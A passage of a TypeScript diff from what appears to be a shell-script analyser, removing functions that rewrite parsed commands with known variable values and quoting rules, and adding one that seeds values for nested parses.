-    const m = VARIABLE.exec(w.value.slice(s, e));
-    const values = m === null ? null : entriesAt(known, (m[1] ?? m[2]) as string, at);
-    if (values !== null && values.some((pieces) => pieces.some((p) => p.kind === 1 && SPLITS.test(p.text)))) return true;
-  }
-  return false;
-}
-
-/** How many values the known variables of `w` may take (0: it uses none). */
-function variants(w: Word, known: KnownValues, at: number): number {
-  let n = 0;
-  for (const [s, e] of w.dynamic ?? []) {
-    const m = VARIABLE.exec(w.value.slice(s, e));
-    const values = m === null ? null : entriesAt(known, (m[1] ?? m[2]) as string, at);
-    if (values !== null) n = Math.max(n, values.length);
-  }
-  return n;
-}
-
-/** `sc` as shell text with variant `v` of every known variable written in; `split` null: as each word's quoting says. */
-function rewrite(sc: SimpleCommand, facts: Facts, known: KnownValues, v: number, split: boolean | null, at: number): string {
-  const parts: string[] = [];
-  const word = (w: Word): string => {
-    if (w.dynamic === null || variants(w, known, at) === 0) return facts.source.slice(w.start, w.end);
-    return emit(w, known, at, v, split ?? !(w.quoted && facts.source.slice(w.start, w.end).includes('"')));
-  };
-  for (const a of sc.assignments) parts.push(a.value === null ? facts.source.slice(a.start, a.end) : `${a.name}${a.append ? "+=" : "="}${word(a.value)}`);
-  for (const w of sc.argv) {
-    const text = word(w);
-    // An unquoted expansion that comes out empty is no word at all (`rm $empty`).
-    if (text !== "") parts.push(text);
-  }
-  for (const r of sc.redirects) parts.push(r.target === null ? facts.source.slice(r.start, r.end) : facts.source.slice(r.start, r.target.start) + word(r.target));
-  return parts.join(" ");
-}
-
-/** One word with its known variables written in; `split`: the variables are outside double quotes. */
-function emit(w: Word, known: KnownValues, at: number, v: number, split: boolean): string {
-  let out = "";
-  let pos = 0;
-  // The word's own leading `~` is still the word's: kept unquoted.
-  if (w.tilde) {
-    const m = /^~[A-Za-z0-9_.+-]*(?=\/|$)/.exec(w.value);
-    if (m !== null) {
-      out += m[0];
-      pos = m[0].length;
-    }
-  }
-  for (const [s, e] of w.dynamic ?? []) {
-    if (s > pos) out += quote(w.value.slice(pos, s));
-    const text = w.value.slice(s, e);
-    const m = VARIABLE.exec(text);
-    const values = m === null ? null : entriesAt(known, (m[1] ?? m[2]) as string, at);
-    if (values === null) out += `"${unknown(m === null ? null : ((m[1] ?? m[2]) as string))}"`;
-    else for (const p of values[values.length - 1 - Math.min(v, values.length - 1)] as Piece[]) out += piece(p, split);
-    pos = e;
-  }
-  if (pos < w.value.length) out += quote(w.value.slice(pos));
-  return out === "" && !split ? "''" : out;
-}
-
-function piece(p: Piece, split: boolean): string {
-  if (p.kind === 2) return `"${p.text}"`;
-  if (p.kind === 1 && !split) return p.text === "" ? "" : quote(p.text);
-  return p.kind === 3 ? globText(p.text) : p.text.split(IFS_WHITESPACE).map(globText).join(" ");
+/** The values a nested parse starts with. */
+export function inherited(facts: Facts, values: ReadonlyMap<string, Piece[][]>): KnownValues {
+  const k = newValues(facts);
+  for (const [name, list] of values) k.names.set(name, list.map((pieces) => ({ pieces, from: 0, to: Infinity, scope: null, key: keyOf(pieces), fn: -1 })));
+  return k;
 }
